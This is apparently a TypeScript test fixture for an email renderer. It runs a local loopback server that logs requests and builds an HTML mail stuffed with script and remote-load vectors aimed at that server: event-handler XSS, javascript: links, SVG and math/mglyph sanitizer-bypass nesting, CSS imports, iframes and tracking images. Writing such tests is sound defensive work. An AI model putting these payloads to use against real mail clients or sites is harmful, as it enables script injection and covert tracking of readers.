import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A host somewhere else that writes down whatever is asked of it. */
interface Trap {
  readonly url: string;
  /** The paths that were asked for, so far. */
  readonly asked: string[];
  close(): Promise<void>;
}

/** Listens on the loopback address, and answers everything with nothing. */
export async function startTrap(): Promise<Trap> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  await new Promise<void>((listening) => {
    server.listen(0, '127.0.0.1', listening);
  });
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    close: () =>
      new Promise((closed) => {
        server.close(() => closed());
        server.closeAllConnections();
      }),
  };
}

/** The page of a mail that tries to run, to load and to send wherever a browser lets it. */
export function hostileHtml({ url }: Pick<Trap, 'url'>): string {
  const run = `new Image().src='${url}/ran'`;
  return [
    `<html><head><link rel="stylesheet" href="${url}/link.css"><style>@import url(${url}/import.css); p { background: url(${url}/style.png) }</style>`,
    `<script>${run}</script><script src="${url}/far.js"></script></head><body onload="${run}" background="${url}/body.png">`,
    '<p>The kiln is hot.</p>',
    `<img src="${url}/pixel.gif" alt="a logo"><img src="x:y" onerror="${run}"><img srcset="${url}/set.png 1x">`,
    `<div style="background:url('${url}/inline.png');position:fixed;inset:0">Come and see it.</div>`,
    `<svg onload="${run}"><image href="${url}/svg.png"></image><style>*{background:url(${url}/in-svg.png)}</style><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src="${url}/math.png" onerror="${run}"></style></mglyph></table></mtext></math>`,
    `<form action="${url}/form"><input autofocus onfocus="${run}" name="q"><button formaction="${url}/button">Go</button></form>`,
    `<iframe src="${url}/frame"></iframe><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe><object data="${url}/object"></object><embed src="${url}/embed">`,
    `<video poster="${url}/poster.png" src="${url}/film.mp4" autoplay></video><details open ontoggle="${run}"><summary>More</summary></details>`,
    `<a href="javascript:${run}">Our page</a>`,
    '<p>Yours, Ann of the kiln.</p>',
    '</body></html>',
  ].join('\n');
}
